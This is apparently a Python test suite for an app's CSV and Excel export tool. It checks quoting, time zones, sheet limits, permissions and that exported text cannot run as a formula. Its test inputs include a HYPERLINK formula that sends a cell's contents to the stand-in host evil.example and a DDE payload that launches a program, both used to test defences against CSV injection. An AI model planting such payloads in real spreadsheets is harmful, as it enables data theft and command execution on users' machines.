#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Exports, as other programs read them: openpyxl, LibreOffice, Python's csv."""

import csv
import datetime
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import zoneinfo

import openpyxl

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.dirname(HERE), os.path.join(os.path.dirname(HERE), "server")]

import tap  # noqa: E402
from harness import ServerTest  # noqa: E402

TOOL = os.environ["EXPORT_TOOL"]
TEXT, NUMBER, TIME, STATE = range(4)
ZONE = "Europe/Amsterdam"
ENVIRONMENT = {**os.environ, "TZ": ZONE, "LC_ALL": "C.UTF-8"}
W = "/v1/businesses/willems"

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\t=1+1",
    "＝1+1", "=cmd|' /C calc'!A0", 'say "hello"', '"', "comma, semicolon; tab\there", "two\nlines",
    "three\r\nlines", " leading", "trailing ", "emoji 🎉👩‍👩‍👧", "مرحبا بالعالم", "שלום, \"עולם\"", "日本語",
    "007", "1e5", "2026-11-22", "TRUE", "#N/A", "'quoted'", "_x0041_ as it stands", "<b>&amp;</b>", "a" * 500,
]
DANGEROUS = "=+-@\t\r\n＝＋－＠"


def neutral(text):
    """What a CSV has in place of a text that looks like a formula."""
    return "'" + text if text and text[0] in DANGEROUS else text


def local(milliseconds):
    moment = datetime.datetime.fromtimestamp(milliseconds // 1000, zoneinfo.ZoneInfo(ZONE))
    return moment.replace(tzinfo=None)


def unescape(text):
    """What Excel and LibreOffice make of a text in a sheet; openpyxl leaves it as it is."""
    return text and re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text)


def read_csv(path):
    with open(path, "rb") as file:
        data = file.read()
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


class Exports(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.mkdtemp(prefix="bw-export-")
        self.addCleanup(shutil.rmtree, self.folder)

    def path(self, name):
        return os.path.join(self.folder, name)

    def write(self, kind, columns, rows, per_sheet=1048576, title="Jobs", **environment):
        path = self.path("table." + kind)
        table = json.dumps({"title": title, "columns": columns, "rows": rows})
        done = subprocess.run([TOOL, "table", kind, path, str(per_sheet)], input=table, text=True, check=False,
                              capture_output=True, env={**ENVIRONMENT, **environment})
        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
        return path

    def convert(self, path):
        """What LibreOffice Calc shows in the first sheet, as text."""
        out = self.path("converted")
        # Tokens: comma, quote, UTF-8; quote all texts, cells as shown.
        filters = ["--infilter=CSV:44,34,76,1"] if path.endswith(".csv") else []
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{self.folder}/office", *filters,
                        "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",
                        "--outdir", out, path], check=True, capture_output=True, env=ENVIRONMENT, timeout=200)
        with open(os.path.join(out, os.path.basename(path).rsplit(".", 1)[0] + ".csv"), encoding="utf-8-sig",
                  newline="") as file:
            return list(csv.reader(file))


class Writers(Exports):
    COLUMNS = [["Name", TEXT], ["Count", NUMBER], ["Made, \"when\"", TIME], ["Status", STATE]]
    MOMENT = 1795308181999  # 2026-11-22 00:43:01.999 UTC, +1 h
    SUMMER = 1782864000000  # 2026-07-01 00:00 UTC, +2 h

    def rows(self):
        return [[text, i, {"time": self.MOMENT + i * 1000}, {"state": "Failed", "tone": 4}]
                for i, text in enumerate(NASTY)]

    def test_G8_csv_is_as_rfc_4180_has_it(self):
        path = self.write("csv", self.COLUMNS, self.rows())
        read = read_csv(path)
        self.assertEqual(read[0], ["Name", "Count", 'Made, "when"', "Status"])
        for i, text in enumerate(NASTY):
            self.assertEqual(read[i + 1], [neutral(text), str(i), str(local(self.MOMENT + i * 1000)), "Failed"])
        with open(path, "rb") as file:
            lines = file.read().split(b"\r\n")
        self.assertEqual(lines[0], b'\xef\xbb\xbfName,Count,"Made, ""when""",Status')
        self.assertEqual(lines[-1], b"", "the last line ends as well")

    def test_G8_csv_has_no_formula(self):
        path = self.write("csv", [["Name", TEXT]], [[text] for text in NASTY])
        for row, in read_csv(path)[1:]:
            self.assertNotIn(row[0], DANGEROUS)
        shown = self.convert(path)
        self.assertEqual([row for row, in shown[1:]][:7], [neutral(text) for text in NASTY][:7],
                         "LibreOffice shows the text, not what it would amount to")

    def test_G8_numbers_that_look_dangerous_stay_numbers(self):
        path = self.write("csv", [["N", NUMBER]], [[-5], [0.25], [9007199254740991]])
        self.assertEqual(read_csv(path)[1:], [["-5"], ["0.25"], ["9007199254740991"]])

    def test_G8_xlsx_types_colours_and_frozen_titles(self):
        book = openpyxl.load_workbook(self.write("xlsx", self.COLUMNS, self.rows()))
        sheet = book["Jobs"]
        self.assertEqual([cell.value for cell in sheet[1]], [title for title, _ in self.COLUMNS])
        self.assertTrue(all(cell.font.b for cell in sheet[1]))
        self.assertEqual((sheet.freeze_panes, sheet.auto_filter.ref), ("A2", f"A1:D{len(NASTY) + 1}"))
        for i, text in enumerate(NASTY):
            name, count, made, status = sheet[i + 2]
            self.assertEqual((name.data_type, unescape(name.value)), ("s", text.replace("\r\n", "\n")), text)
            self.assertEqual(bool(name.quotePrefix), text[0] in DANGEROUS, text)
            self.assertEqual((count.data_type, count.value), ("n", i))
            self.assertEqual((made.is_date, made.value), (True, local(self.MOMENT + i * 1000)))
            self.assertEqual((status.value, status.font.color.rgb), ("Failed", "FFC30000"))
        widths = [sheet.column_dimensions[letter].width for letter in "ABCD"]
        self.assertTrue(all(8 <= width <= 61 for width in widths) and widths[0] > 50, widths)

    def test_G8_xlsx_states_by_meaning(self):
        path = self.write("xlsx", [["Status", STATE]], [[{"state": str(tone), "tone": tone}] for tone in range(5)])
        colours = [cell.font.color.rgb for cell, in openpyxl.load_workbook(path).active.iter_rows(min_row=2)]
        self.assertEqual(len(set(colours)), 5, colours)

    def test_G8_times_are_those_of_the_clock_here(self):
        rows = [[{"time": self.SUMMER}], [{"time": self.MOMENT}], [None], [{"time": -1}]]
        sheet = openpyxl.load_workbook(self.write("xlsx", [["T", TIME]], rows)).active
        self.assertEqual([sheet.cell(i, 1).value for i in range(2, 6)],
                         [datetime.datetime(2026, 7, 1, 2), local(self.MOMENT), None,
                          datetime.datetime(1970, 1, 1, 0, 59, 59)])
        self.assertEqual(read_csv(self.write("csv", [["T", TIME]], rows))[1:],
                         [["2026-07-01 02:00:00"], [str(local(self.MOMENT))], [], ["1970-01-01 00:59:59"]][:2]
                         + [[], ["1970-01-01 00:59:59"]])

    def test_G8_xlsx_numbers_whatever_the_language(self):
        path = self.write("xlsx", [["N", NUMBER], ["T", TIME]], [[1.5, {"time": self.MOMENT}]], LC_ALL="de_DE.UTF-8")
        sheet = openpyxl.load_workbook(path).active
        self.assertEqual((sheet["A2"].value, sheet["B2"].value), (1.5, local(self.MOMENT)))

    def test_G8_xlsx_goes_on_in_another_sheet(self):
        path = self.write("xlsx", [["N", NUMBER], ["Name", TEXT]], [[i, f"row {i}"] for i in range(10)], per_sheet=5,
                          title="A name: with / all * that [Excel] refuses?")
        book = openpyxl.load_workbook(path)
        self.assertEqual([[sheet.cell(row, 1).value for row in range(2, sheet.max_row + 1)] for sheet in book],
                         [[0, 1, 2, 3], [4, 5, 6, 7], [8, 9]])
        self.assertTrue(all(sheet["A1"].value == "N" and sheet.freeze_panes == "A2" for sheet in book))
        self.assertTrue(all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in book.sheetnames))

    def test_G8_what_a_cell_cannot_hold(self):
        texts = ["x" * 32767, "x" * 32768, "🎉" * 20000, "_x0041_" * 6000, "bell\a, null-like\x01, \ufffe.", "tab\tkept"]
        rows = [[text] for text in texts]
        read = [unescape(row[0].value) for row in
                openpyxl.load_workbook(self.write("xlsx", [["T", TEXT]], rows)).active.iter_rows(min_row=2)]
        self.assertEqual(read[0], texts[0])
        self.assertEqual(read[1], "x" * 32766 + "…")
        self.assertEqual(read[2], "🎉" * 16383 + "…")
        self.assertTrue(read[3].startswith("_x0041__x0041_"))
        self.assertEqual(read[4:], ["bell�, null-like�, �.", "tab\tkept"])
        self.assertEqual([row[0] for row in read_csv(self.write("csv", [["T", TEXT]], rows))[1:]],
                         texts[:4] + read[4:], "a CSV holds any length")

    def test_G8_libreoffice_reads_every_cell(self):
        rows = self.rows()
        for kind in ("xlsx", "csv"):
            shown = self.convert(self.write(kind, self.COLUMNS, rows))
            self.assertEqual(len(shown), len(rows) + 1, kind)
            for i, text in enumerate(NASTY):
                if kind == "csv":
                    text = neutral(text)
                    if text in ("007", "1e5", "2026-11-22", "TRUE", "#N/A"):
                        continue  # a CSV has no types: the reader guesses
                expected = [text.replace("\r\n", "\n"), str(i), str(local(self.MOMENT + i * 1000)), "Failed"]
                self.assertEqual([cell.replace("\r\n", "\n") for cell in shown[i + 1]], expected, kind)


class FromServer(Exports, ServerTest):
    def export(self, *arguments, wrap=(), cwd=None, **popen):
        done = subprocess.run([*wrap, TOOL, *map(str, arguments)], capture_output=True, text=True, env=ENVIRONMENT,
                              check=False, cwd=cwd, timeout=60, **popen)
        lines = done.stdout.splitlines()
        return lines[-1] if lines else done.stderr, [tuple(map(int, line.split())) for line in lines[:-1]]

    def jobs(self, api, kind, path, *keys, **more):
        return self.export("jobs", self.server.url, api.token, "willems", kind, path, *keys, **more)

    def fill(self, api, count, seed=1):
        chance = random.Random(seed)
        for start in range(0, count, 1000):
            api.submit("willems", *[
                {"type": "send-invoices", "name": "".join(c for c in chance.choice(NASTY)[:300] if c >= " ") + f" {i}",
                 "references": [{"kind": "task", "id": f"t{i}", "label": chance.choice(["=1", "Task, 9", "ش"])}],
                 "items": [{"label": f"{i}"}] * (i % 3)} for i in range(start, min(start + 1000, count))])
        listed, offset = [], 0
        while page := api.get(W + "/jobs", limit=1000, offset=offset).json["jobs"]:
            listed += page
            offset += len(page)
        return listed

    def expect(self, job):
        when = datetime.datetime.fromisoformat(job["created_at"]).timestamp()
        return [job["name"], "Initiated", job["created_by"]["name"], str(local(int(when * 1000 + 0.5))), ""]

    def test_D9_jobs_export_csv(self):
        api = self.user("olivia")
        api.submit("willems", {"type": "send-invoices", "name": "Waits"})
        listed = self.fill(api, 3)
        worker = self.worker()
        worker.work_off("willems", types=["send-invoices"])
        path = self.path("jobs-export.csv")
        end, _ = self.jobs(api, "csv", path)
        self.assertEqual(end, f"done {len(listed)}")
        with open(path, "rb") as file:
            self.assertEqual(file.read().split(b"\r\n")[0], b"\xef\xbb\xbfName,Status,User,Created,Completed")
        read = read_csv(path)[1:]
        now = api.get(W + "/jobs", limit=1000).json["jobs"]
        for job, row in zip(now, read, strict=True):
            completed = job["finished_at"] and str(
                local(int(datetime.datetime.fromisoformat(job["finished_at"]).timestamp() * 1000 + 0.5)))
            self.assertEqual(row[0], neutral(job["name"]))
            self.assertEqual(row[1], {"success": "Success", "queued": "Initiated", "failed": "Failed"}[job["state"]])
            self.assertEqual(row[2:], [job["created_by"]["name"], self.expect(job)[3], completed or ""])

    def test_G8_five_thousand_jobs_opened_in_libreoffice(self):
        api = self.user("olivia")
        listed = self.fill(api, 5000)
        for kind in ("csv", "xlsx"):
            end, progress = self.jobs(api, kind, self.path("many." + kind), "columns=name,status,user,created,completed")
            self.assertEqual(end, f"done {len(listed)}")
            self.assertEqual(progress[-1], (len(listed), len(listed), 1))
            self.assertGreater(len(progress), 1, "there is progress")
            shown = self.convert(self.path("many." + kind))
            self.assertEqual(len(shown), len(listed) + 1)
            for job, row in zip(listed, shown[1:]):
                expected = self.expect(job)
                if kind == "csv":
                    expected[0] = neutral(expected[0])
                if job["state"] != "queued":  # of another test
                    continue
                self.assertEqual(row, expected)

    def test_F6_columns_and_picked_rows(self):
        api = self.user("olivia")
        listed = self.fill(api, 5)
        picked = [listed[3], listed[0]]
        ids = "ids=" + ",".join(str(job["id"]) for job in picked)
        end, _ = self.jobs(api, "csv", self.path("picked.csv"), ids, "columns=items,number,references")
        self.assertEqual(end, "done 2")
        self.assertEqual(read_csv(self.path("picked.csv")),
                         [["Number", "Items", "References"]] +
                         [[str(job["id"]), str(job["items_total"]), neutral(job["references"][0]["label"])]
                          for job in picked])
        end, _ = self.jobs(api, "csv", self.path("none.csv"), "columns=colour")
        self.assertIn("There is no column “colour”", end)

    def test_A11_items_to_excel(self):
        api, worker = self.user("olivia"), self.worker()
        labels = [text for text in NASTY if "\n" not in text and "\t" not in text]
        job, = api.submit("willems", {"type": "send-statements", "name": "Items", "items": [
            {"label": label, "reference": {"kind": "relation", "id": str(i), "label": "Rel " + label[:3]}}
            for i, label in enumerate(labels)]})
        claim, = worker.claim(businesses=["willems"], types=["send-statements"], max=1)
        worker.report({"claim": claim["claim"], "finish": {}, "items": [
            {"item": i + 1, "state": "failed" if i % 2 else "success", "message": "no\naddress" if i % 2 else None}
            for i in range(len(labels))]})
        end, _ = self.export("items", self.server.url, api.token, "willems", job, "xlsx", self.path("items.xlsx"))
        self.assertEqual(end, f"done {len(labels)}")
        sheet = openpyxl.load_workbook(self.path("items.xlsx")).active
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(rows[0], ("Number", "Item", "Status", "Message", "Reference", "Attempt", "Updated"))
        items = api.get(f"{W}/jobs/{job}/items").json["items"]
        for item, row in zip(items, rows[1:], strict=True):
            row = (row[0], unescape(row[1]), *row[2:])
            self.assertEqual(row[:6], (item["item"], item["label"], item["state"].capitalize(), item["message"],
                                       item["reference"]["label"], 1))
            self.assertIsInstance(row[6], datetime.datetime)

    def test_F6_cancelled_leaves_the_old_file_and_nothing_else(self):
        api = self.user("olivia")
        self.fill(api, 3000)
        for kind in ("csv", "xlsx"):
            path = self.path("old." + kind)
            with open(path, "w", encoding="utf-8") as file:
                file.write("as it was")
            end, _ = self.jobs(api, kind, path, "cancel-at=1")
            self.assertIn("g-io-error-quark 19", end)
            with open(path, encoding="utf-8") as file:
                self.assertEqual(file.read(), "as it was")
        self.assertEqual(sorted(os.listdir(self.folder)), ["old.csv", "old.xlsx"])

    def test_F6_an_older_file_is_replaced_with_its_rights(self):
        api = self.user("olivia")
        self.fill(api, 1)
        path = self.path("old.csv")
        with open(path, "w", encoding="utf-8") as file:
            file.write("as it was")
        os.chmod(path, 0o640)
        os.symlink(path, self.path("link.csv"))
        self.assertIn("done", self.jobs(api, "csv", self.path("link.csv"))[0])
        self.assertTrue(os.path.islink(self.path("link.csv")))
        self.assertEqual(read_csv(path)[0][0], "Name")
        self.assertEqual(os.stat(path).st_mode & 0o777, 0o640)
        self.assertEqual(sorted(os.listdir(self.folder)), ["link.csv", "old.csv"])

    def test_F6_a_full_disk_is_said_and_leaves_nothing(self):
        api = self.user("olivia")
        self.fill(api, 3000)
        for kind in ("csv", "xlsx"):
            # 64 KiB a file, with the signal ignored, is a disk that is full.
            end, _ = self.jobs(api, kind, self.path("full." + kind),
                               wrap=("python3", "-c", "import os, resource, signal, sys;"
                                     "signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
                                     "resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536));"
                                     "os.execv(sys.argv[1], sys.argv[1:])"))
            self.assertTrue(end.startswith("failed BwError"), end)
            self.assertIn(f"“full.{kind}” could not be saved.", end)
            self.assertIn("choose another folder", end)
        self.assertEqual([name for name in os.listdir(self.folder) if name != "office"], [])

    def test_F6_no_folder_or_no_right_to_write(self):
        api = self.user("olivia")
        end, _ = self.jobs(api, "csv", self.path("gone/file.csv"))
        self.assertIn("is not there. Choose another folder.", end)
        end, _ = self.jobs(api, "csv", "/proc/file.csv")
        self.assertIn("Choose another folder.", end)
        os.mkdir(self.path("a-folder.csv"))
        end, _ = self.jobs(api, "csv", self.path("a-folder.csv"))
        self.assertIn("could not be saved", end)
        self.assertEqual(os.listdir(self.folder), ["a-folder.csv"])

    def take_export_from(self, login):
        """A user who may see everything and take nothing away."""
        owner, user = self.user("olivia"), self.server.sign_in(login)
        role = owner.post(W + "/roles", {"name": f"Reader {login}", "permissions": ["view-own", "view-all"]})
        self.assertEqual(role.status, 201, role.text)
        answer = owner.patch(f"{W}/members/{user.user}", {"role": role.json["id"]})
        self.assertEqual(answer.status, 200, answer.text)
        return user

    def test_C6_G8_without_the_right_nothing_is_written(self):
        end, _ = self.jobs(self.take_export_from("victor"), "csv", self.path("refused.csv"))
        self.assertIn("Could not export the jobs of", end)
        self.assertIn("permission “export”", end)
        self.assertEqual(os.listdir(self.folder), [])

    def test_F6_the_server_going_away_leaves_nothing(self):
        api = self.user("olivia")
        self.fill(api, 6000)
        process = subprocess.Popen([TOOL, "jobs", self.server.url, api.token, "willems", "xlsx",
                                    self.path("cut.xlsx"), "wait-at=1"], stdin=subprocess.PIPE,
                                   stdout=subprocess.PIPE, text=True, env=ENVIRONMENT)
        self.assertTrue(process.stdout.readline().split()[0].isdigit())
        self.server.kill()
        self.addCleanup(self.server.start)
        out, _ = process.communicate("\n" * 100)
        self.assertIn("failed BwError", out)
        self.assertIn("Could not export the jobs of", out)
        self.assertEqual(os.listdir(self.folder), [])


if __name__ == "__main__":
    tap.main("/client/export", sys.argv[1:])
